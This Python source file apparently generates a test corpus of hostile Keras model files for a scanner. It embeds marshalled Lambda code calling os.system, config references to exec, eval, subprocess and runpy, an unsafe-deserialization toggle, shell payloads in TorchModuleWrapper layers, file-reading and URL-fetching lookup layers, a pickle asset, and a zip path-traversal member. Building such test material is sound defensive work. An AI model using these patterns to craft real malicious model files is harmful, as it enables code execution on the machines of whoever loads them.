"""Hostile Keras files: Lambda code, redirected modules, layers that read files."""

from __future__ import annotations

import base64
import io
import json
import marshal
from collections.abc import Callable, Iterator
from typing import Any

from assemble import shell
from hostile_calls import URL
from hostile_wrap import zipped

Files = Iterator[tuple[str, bytes]]
CODE = base64.b64encode(
    marshal.dumps(
        compile("lambda x: __import__('os').system('true')", "apart", "eval").co_consts[0]
    )
).decode()


def _sequential(*layers: dict[str, Any]) -> dict[str, Any]:
    first = {
        "module": "keras.layers",
        "class_name": "InputLayer",
        "registered_name": None,
        "config": {"batch_shape": [None, 4], "dtype": "float32", "name": "input"},
    }
    return {
        "module": "keras",
        "class_name": "Sequential",
        "registered_name": None,
        "config": {"name": "sequential", "trainable": True, "layers": [first, *layers]},
    }


def _layer(module: str, kind: str, config: Any, **more: Any) -> dict[str, Any]:
    return {"module": module, "class_name": kind, "config": config, "registered_name": None, **more}


def _keras(config: Any, *more: tuple[str, bytes]) -> bytes:
    meta = {"keras_version": "3.8.0", "date_saved": "2026-01-01@00:00:00"}
    return zipped(
        [
            ("metadata.json", json.dumps(meta).encode()),
            ("config.json", json.dumps(config).encode()),
            ("model.weights.h5", _h5({})),
            *more,
        ]
    )


def _h5(attributes: dict[str, str]) -> bytes:
    import h5py

    out = io.BytesIO()
    with h5py.File(out, "w") as file:
        for key, value in attributes.items():
            file.attrs[key] = value
        file.create_group("model_weights").create_group("dense")
    return out.getvalue()


LAMBDA3 = _layer(
    "keras.layers",
    "Lambda",
    {
        "name": "l",
        "function": {
            "class_name": "__lambda__",
            "config": {"code": CODE, "defaults": None, "closure": None},
        },
    },
)


LAMBDA2 = {
    "class_name": "Lambda",
    "config": {
        "name": "l",
        "function": [CODE, None, None],
        "function_type": "lambda",
        "module": "__main__",
        "output_shape": None,
        "output_shape_type": "raw",
        "arguments": {},
    },
}


def _function(module: str, what: str) -> dict[str, Any]:
    return {
        "module": module,
        "class_name": "function",
        "config": what,
        "registered_name": "function",
    }


def keras_zip() -> Files:
    yield "lambda.keras", _keras(_sequential(LAMBDA3))
    nested = _layer("keras.layers", "TimeDistributed", {"name": "t", "layer": LAMBDA3})
    yield "lambda-inside.keras", _keras(_sequential(nested))
    yield "lambda-submodel.keras", _keras(_sequential(_sequential(_sequential(LAMBDA3))))
    for label, module, what in (
        ("os", "os", "system"),
        ("builtins", "builtins", "exec"),
        ("subprocess", "subprocess", "run"),
        ("unsafe", "keras.config", "enable_unsafe_deserialization"),
        ("getfile", "keras.utils", "get_file"),
        ("loadmodel", "keras.models", "load_model"),
        ("runpy", "runpy", "run_path"),
        ("global", "keras.src.backend.common.global_state", "set_global_attribute"),
    ):
        layer = _layer(
            "keras.layers",
            "Lambda",
            {"name": label, "function": _function(module, what), "arguments": {"x": URL}},
        )
        yield f"function-{label}.keras", _keras(_sequential(layer))
    for label, module, kind, config in (
        ("class-popen", "subprocess", "Popen", {"args": "true"}),
        ("class-util", "pydoc", "ErrorDuringImport", {"filename": "x", "exc_info": "y"}),
        (
            "torch-wrapper",
            "keras.layers",
            "TorchModuleWrapper",
            {"name": "t", "module": base64.b64encode(shell()).decode()},
        ),
        (
            "torch-wrapper-src",
            "keras.src.utils.torch_utils",
            "TorchModuleWrapper",
            {"module": {"class_name": "__bytes__", "config": {"value": shell().hex()}}},
        ),
        (
            "lookup-file",
            "keras.layers",
            "StringLookup",
            {"name": "s", "vocabulary": "/etc/hostname"},
        ),
        ("lookup-url", "keras.layers", "IntegerLookup", {"name": "s", "vocabulary": URL}),
        (
            "index-lookup",
            "keras.src.layers.preprocessing.index_lookup",
            "IndexLookup",
            {"vocabulary": "file:///etc/hostname"},
        ),
        ("tfsm", "keras.layers", "TFSMLayer", {"name": "t", "filepath": "/tmp/redteam-none"}),
    ):
        yield f"{label}.keras", _keras(_sequential(_layer(module, kind, config)))
    model = _sequential()
    model["compile_config"] = {"loss": _function("os", "system"), "optimizer": "adam"}
    yield "compile-loss.keras", _keras(model)
    model = _sequential()
    model["module"], model["class_name"] = "os", "system"
    yield "root-class.keras", _keras(model)
    yield "member-pickle.keras", _keras(_sequential(), ("assets/vocab.pkl", shell("stack")))
    yield (
        "member-traversal.keras",
        _keras(_sequential(), ("assets/../../../tmp/redteam-none", b"x")),
    )
    yield (
        "initializer.keras",
        _keras(
            _sequential(
                _layer(
                    "keras.layers",
                    "Dense",
                    {"name": "d", "units": 1, "activation": _function("builtins", "eval")},
                )
            )
        ),
    )


def keras_h5() -> Files:
    def config(*layers: Any) -> str:
        return json.dumps(
            {"class_name": "Sequential", "config": {"name": "s", "layers": list(layers)}}
        )

    version = {"keras_version": "2.15.0", "backend": "tensorflow"}
    yield "lambda.h5", _h5({**version, "model_config": config(LAMBDA2)})
    yield (
        "lambda.hdf5",
        _h5(
            {
                **version,
                "model_config": config(
                    {"class_name": "Bidirectional", "config": {"layer": LAMBDA2}}
                ),
            }
        ),
    )
    named = {
        "class_name": "Lambda",
        "config": {"name": "l", "function": "system", "function_type": "function", "module": "os"},
    }
    yield "function.h5", _h5({**version, "model_config": config(named)})
    yield "lambda3.h5", _h5({**version, "model_config": json.dumps(_sequential(LAMBDA3))})
    yield (
        "module.h5",
        _h5(
            {
                **version,
                "model_config": json.dumps(
                    _sequential(_layer("subprocess", "Popen", {"args": "true"}))
                ),
            }
        ),
    )
    yield (
        "training-loss.h5",
        _h5(
            {
                **version,
                "model_config": config(),
                "training_config": json.dumps(
                    {"loss": _function("os", "system"), "optimizer_config": {"class_name": "Adam"}}
                ),
            }
        ),
    )
    yield "no-version.h5", _h5({"model_config": config(LAMBDA2)})
    yield "lying.bin", _h5({**version, "model_config": config(LAMBDA2)})


FAMILIES: dict[str, Callable[[], Files]] = {"keras-zip": keras_zip, "keras-h5": keras_h5}
